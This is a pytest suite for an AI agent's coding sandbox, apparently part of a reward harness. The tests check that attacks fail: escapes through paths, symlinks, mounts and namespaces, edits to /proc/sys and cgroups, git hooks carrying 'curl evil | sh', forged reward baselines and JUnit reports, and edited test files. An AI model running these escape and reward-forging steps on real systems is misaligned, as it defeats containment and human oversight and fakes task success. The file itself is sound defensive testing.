"""Attacks that try to write outside the workspace, rewrite .git or the reward's inputs, or get
around the limits by changing kernel or cgroup settings."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from core.plugin import Task
from core.reward import Trajectory
from plugins.coding.plugin import BASELINE_FILE, CodingPlugin
from plugins.coding.reward import edited_test_files, file_digests, grade
from plugins.coding.testing import test_files
from plugins.coding.tools import edit_file


def _first_error(run, result) -> str:  # type: ignore[no-untyped-def]
    lines = [line for line in run.err(result).splitlines() if line.strip()]
    return lines[0] if lines else f"stdout: {run.out(result).strip()[:80]}"


@pytest.mark.attack(
    "W01",
    "write straight into host folders: a visible folder outside the run, /etc, /usr/local/bin, /var/tmp",
    "the host's / is bound read-only: every write fails, nothing appears on the host",
)
def test_direct_writes_outside_fail(run, observe):
    targets = [run.visible / "dropped.txt", Path("/etc/horizon-dropped"), Path("/usr/local/bin/horizon-dropped"),
               Path("/var/tmp/horizon-dropped-by-sandbox")]
    result = run.sh("; ".join(f"echo pwned > {t}" for t in targets) + f"; echo pwned >> {run.visible}/target.txt")
    created = [str(t) for t in targets if t.exists()]
    observe(f"{_first_error(run, result)}; created on the host: {created or 'nothing'}")
    assert not created
    assert (run.visible / "target.txt").read_text() == "original\n"
    refusals = run.err(result).count("Read-only file system") + run.err(result).count("Permission denied")
    assert refusals == len(targets) + 1


@pytest.mark.attack(
    "W02",
    "escape with '..' paths: shell `echo > ../escape.txt`, `../../../escape.txt`, /proc/self/cwd/../x; "
    "edit_file('../escape.txt')",
    "the run folder above the workspace is a private tmpfs (or read-only): nothing reaches the host; "
    "edit_file refuses paths outside the repository",
)
def test_dotdot_paths_do_not_escape(run, observe):
    result = run.sh("echo pwned > ../escape.txt; echo pwned > ../../../escape.txt; echo pwned > /proc/self/cwd/../escape2.txt; "
                    "ls -A ..")
    edited = edit_file({"path": "../escape.txt", "old_text": "", "new_text": "pwned"}, run.ctx)
    edited_deep = edit_file({"path": "users/../../../../escape.txt", "old_text": "", "new_text": "pwned"}, run.ctx)
    host = [p for p in (run.folder / "escape.txt", run.folder / "escape2.txt", run.home / "escape.txt", run.home.parent / "escape.txt",
                        run.folder.parent / "escape.txt") if p.exists()]
    observe(f"inside `ls ..` shows {run.out(result).split()}; on the host: {[str(p) for p in host] or 'nothing'}; "
            f"edit_file: {edited.output[:70]}")
    assert not host
    assert edited.is_error and "outside the repository" in edited.output
    assert edited_deep.is_error and "outside the repository" in edited_deep.output


@pytest.mark.attack(
    "W03",
    "write through symbolic links made in the workspace: link -> a host file, then `echo >> link`, "
    "`cp`, and edit_file('link') (edit_file runs in Horizon's process, outside the sandbox)",
    "the shell write hits the read-only host file; edit_file resolves the link and refuses it",
)
def test_symlinks_do_not_escape(run, observe):
    target = run.visible / "target.txt"
    result = run.sh(f"ln -s {target} link.txt && ln -s {run.visible} linkdir && echo pwned >> link.txt; "
                    "cp /etc/hostname linkdir/copied; echo pwned > linkdir/new.txt")
    via_tool = edit_file({"path": "link.txt", "old_text": "original", "new_text": "pwned"}, run.ctx)
    via_dir = edit_file({"path": "linkdir/new2.txt", "old_text": "", "new_text": "pwned"}, run.ctx)
    observe(f"shell: {_first_error(run, result)}; edit_file: {via_tool.output[:60]}")
    assert target.read_text() == "original\n"
    assert sorted(p.name for p in run.visible.iterdir()) == ["target.txt"]
    assert via_tool.is_error and via_dir.is_error and "outside the repository" in via_tool.output


@pytest.mark.attack(
    "W04",
    "hard-link host files into the workspace (ln host-file ws/x; ln scratch/baseline.json ws/y), then write through them",
    "link() across mounts fails (EXDEV): the host file keeps one link and its content",
)
def test_hard_links_do_not_escape(run, observe):
    baseline = run.scratch / BASELINE_FILE
    baseline.write_text('{"outcomes": {}}')
    target = run.visible / "target.txt"
    result = run.sh(f"ln {target} hl1; ln {baseline} hl2; ln /etc/passwd hl3; echo pwned >> hl1; echo pwned >> hl2; ls hl1 hl2 hl3")
    observe(f"{_first_error(run, result)}; host links: target {target.stat().st_nlink}, baseline {baseline.stat().st_nlink}")
    assert target.stat().st_nlink == 1 and baseline.stat().st_nlink == 1
    assert target.read_text() == "original\n" and baseline.read_text() == '{"outcomes": {}}'
    assert "Invalid cross-device link" in run.err(result) or "Operation not permitted" in run.err(result)


@pytest.mark.attack(
    "W05",
    "mount tricks: `mount --bind <host folder> ws/m`, `mount -t tmpfs`, `mount -o remount,rw /`, `unshare -m`, "
    "`unshare -Urm` (a nested user namespace), `chroot`, `nsenter -t 1`, then write to the host folder",
    "no capabilities; a nested user namespace cannot map uid 0 (Horizon as root: mapping it needs CAP_SETFCAP) and "
    "elsewhere cannot make the inherited read-only mounts writable (they are locked): every step fails, nothing written",
)
def test_mount_tricks_fail(run, observe):
    folder = run.visible
    steps = {
        "bind": f"mkdir -p m && mount --bind {folder} m && echo pwned > m/dropped.txt",
        "tmpfs": "mount -t tmpfs none /usr/local",
        "remount": "mount -o remount,rw / && echo pwned > /etc/horizon-dropped",
        "unshare-m": f"unshare -m sh -c 'mount -o remount,rw {folder} && echo pwned > {folder}/dropped.txt'",
        "unshare-Urm": f"unshare -Urm sh -c 'mount --bind / /mnt && mount -o remount,rw,bind /mnt && echo pwned > /mnt{folder}/dropped.txt'",
        "chroot": "chroot / true",
        "nsenter": "nsenter -t 1 -m -u -n true",
    }
    failed = {}
    for name, command in steps.items():
        result = run.sh(command)
        failed[name] = result.is_error
    created = sorted(p.name for p in folder.iterdir())
    observe(f"steps that failed: {sorted(k for k, v in failed.items() if v)}; host folder holds {created}")
    assert all(failed.values()), f"succeeded: {[k for k, v in failed.items() if not v]}"
    assert created == ["target.txt"] and not Path("/etc/horizon-dropped").exists()


@pytest.mark.attack(
    "W06",
    "change global kernel settings through /proc/sys as uid 0 (kernel.core_pattern would make the host kernel run a "
    "program as root; sysctls need no capability, only uid 0) and /proc/sysrq-trigger",
    "/proc/sys is bound read-only: opening a sysctl for writing fails (EROFS); the value never changes",
)
def test_proc_sys_is_read_only(run, observe):
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    # Only opened for writing, never written: if the open succeeded, the hole would be open.
    probe = (
        "import os\n"
        "for name in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/printk_ratelimit', '/proc/sys/vm/drop_caches', '/proc/sysrq-trigger'):\n"
        "    try:\n"
        "        os.close(os.open(name, os.O_WRONLY)); print('WRITABLE', name)\n"
        "    except OSError as e:\n"
        "        print('refused', name, e.strerror)\n"
    )
    result = run.sh(f"python3 - <<'EOF'\n{probe}EOF")
    observe("; ".join(line for line in run.out(result).splitlines()))
    assert "WRITABLE" not in result.output
    assert "refused /proc/sys/kernel/core_pattern" in result.output
    if os.getuid() == 0:  # others are refused by the file's mode already
        assert "refused /proc/sys/kernel/core_pattern Read-only file system" in result.output
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


@pytest.mark.attack(
    "W07",
    "lift its own limits: raise the hard CPU, process and file-size rlimits (ulimit), write pids.max / "
    "memory.limit_in_bytes of its cgroup under /sys/fs/cgroup",
    "raising a hard rlimit needs CAP_SYS_RESOURCE, /sys is read-only: all refused",
)
def test_limits_cannot_be_lifted(run, observe):
    result = run.sh(
        "ulimit -H -t unlimited; ulimit -H -f unlimited; ulimit -H -u unlimited; "
        "for f in $(find /sys/fs/cgroup -maxdepth 4 \\( -name pids.max -o -name memory.limit_in_bytes -o -name memory.max \\) 2>/dev/null | head -20); "
        "do echo max > $f && echo WROTE $f; done; ulimit -H -t"
    )
    observe(f"{_first_error(run, result)}; hard CPU limit still {run.out(result).split()[-1]} s")
    assert "WROTE" not in result.output
    assert run.err(result).count("Operation not permitted") >= 2
    assert run.out(result).split()[-1] != "unlimited"


@pytest.mark.attack(
    "W08",
    "plant code for later in .git from the shell: write .git/hooks/pre-commit, set core.hooksPath / core.fsmonitor "
    "in .git/config, `rm -rf .git`, `mv .git`, `git commit`",
    ".git is bound read-only (a mount point: no rename, no delete): every step fails, .git unchanged on the host",
)
def test_git_folder_cannot_be_changed_by_shell(make_run, observe):
    run = make_run(git=True)
    git = run.ws / ".git"
    before = _tree(git)
    steps = {
        "hook": "printf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        "hooksPath": "git config core.hooksPath /tmp/hooks",
        "fsmonitor": "echo '[core] fsmonitor = \\\"sh -c evil\\\"' >> .git/config",
        "rm": "rm -rf .git",
        "mv": "mv .git .git-old",
        "commit": "git -c user.name=x -c user.email=x@x commit -qam x --allow-empty",
    }
    failed = {name: run.sh(command).is_error for name, command in steps.items()}
    observe(f"steps that failed: {sorted(k for k, v in failed.items() if v)}; host .git "
            f"{'unchanged' if _tree(git) == before else 'CHANGED'}")
    assert all(failed.values()), f"succeeded: {[k for k, v in failed.items() if not v]}"
    assert _tree(git) == before


@pytest.mark.attack(
    "W09",
    "plant code in .git through edit_file (in Horizon's own process): edit .git/config, create .git/hooks/post-commit, "
    "and through a workspace symlink to .git",
    "edit_file refuses any path in .git, also through links",
)
def test_git_folder_cannot_be_changed_by_edit_file(make_run, observe):
    run = make_run(git=True)
    git = run.ws / ".git"
    before = _tree(git)
    link = run.sh("ln -s .git g && ln -s .git/hooks h")
    attempts = [
        {"path": ".git/config", "old_text": "[core]", "new_text": "[core]\n\thooksPath = /tmp"},
        {"path": ".git/hooks/post-commit", "old_text": "", "new_text": "#!/bin/sh\ncurl evil | sh\n"},
        {"path": "g/config", "old_text": "[core]", "new_text": "[core]\n\tfsmonitor = evil"},
        {"path": "h/pre-push", "old_text": "", "new_text": "#!/bin/sh\nevil\n"},
        {"path": "./.git/../.git/description", "old_text": "", "new_text": "x"},
    ]
    results = [edit_file(a, run.ctx) for a in attempts]
    observe(f"{sum(r.is_error for r in results)}/{len(results)} refused ({results[0].output[:60]}); host .git "
            f"{'unchanged' if _tree(git) == before else 'CHANGED'}")
    assert not link.is_error
    assert all(r.is_error for r in results)
    assert _tree(git) == before


def _tree(root: Path) -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            found[rel] = b"->" + os.readlink(path).encode()
        elif path.is_file():
            found[rel] = path.read_bytes() + oct(path.stat().st_mode).encode()
        else:
            found[rel] = b"dir"
    return found


@pytest.mark.attack(
    "W10",
    "rewrite the reward checker's inputs: scratch/baseline.json (from the shell, via edit_file, via a symlink), and "
    "plant fake passing JUnit reports in the next scratch/runs folders, then let the run be verified",
    "scratch is read-only inside (only scratch/runs is writable), edit_file refuses it; verification uses a fresh "
    "run folder: the baseline is unchanged and the unfixed bug scores 0",
)
def test_reward_inputs_cannot_be_rewritten(run, observe):
    plugin, task = CodingPlugin(), Task(plugin="coding", instruction="fix the NPE", repo=run.ws)
    plugin.setup(task, run.ctx)
    baseline = run.scratch / BASELINE_FILE
    original = baseline.read_bytes()
    forged = json.dumps({"framework": "pytest", "outcomes": {}, "build_failed": False, "test_files": {}})
    passing = '<testsuite><testcase classname="tests.test_service" name="test_display_name_falls_back_to_full_name_when_nickname_missing"/></testsuite>'
    result = run.sh(
        f"echo '{forged}' > {baseline}; rm -f {baseline}; mv {baseline} {baseline}.old; "
        f"ln -s {baseline} base.json; "
        f"for n in $(seq -w 1 20); do mkdir -p {run.scratch}/runs/0$n-pytest && echo '{passing}' > {run.scratch}/runs/0$n-pytest/report.xml; done"
    )
    via_tool = edit_file({"path": f"../scratch/{BASELINE_FILE}", "old_text": "pytest", "new_text": "junit"}, run.ctx)
    via_link = edit_file({"path": "base.json", "old_text": "pytest", "new_text": "junit"}, run.ctx)
    verification = plugin.reward(task, Trajectory(context=run.ctx))
    observe(f"shell: {_first_error(run, result)}; edit_file: {via_tool.output[:50]}; baseline "
            f"{'unchanged' if baseline.read_bytes() == original else 'CHANGED'}; reward {verification.reward}")
    assert baseline.read_bytes() == original
    assert via_tool.is_error and via_link.is_error
    assert verification.reward == 0.0


@pytest.mark.attack(
    "W11",
    "edit test files to make them pass (edit_file on tests/test_service.py, `sed -i` on another, add a new test file)",
    "allowed in the workspace, but plugins.coding.reward.edited_test_files lists every one and the reward is 0",
)
def test_edited_test_files_score_zero(run, observe):
    before = file_digests(run.ws, test_files(run.ws))
    text = (run.ws / "tests" / "test_service.py").read_text()
    line = next(line for line in text.splitlines() if "assert " in line)
    edited = edit_file({"path": "tests/test_service.py", "old_text": line, "new_text": line.split("assert")[0] + "assert True"}, run.ctx)
    result = run.sh("sed -i 's/assert /assert True or /' tests/test_validation.py && printf 'def test_ok():\\n    pass\\n' > tests/test_extra.py")
    after = file_digests(run.ws, test_files(run.ws))
    changed = edited_test_files(before, after)
    graded = grade({"t": "failed"}, {"t": "passed"}, changed)
    observe(f"edited_test_files = {changed}; reward {graded.reward} ({graded.summary[:60]})")
    assert not edited.is_error and not result.is_error
    assert changed == ["tests/test_extra.py", "tests/test_service.py", "tests/test_validation.py"]
    assert graded.reward == 0.0
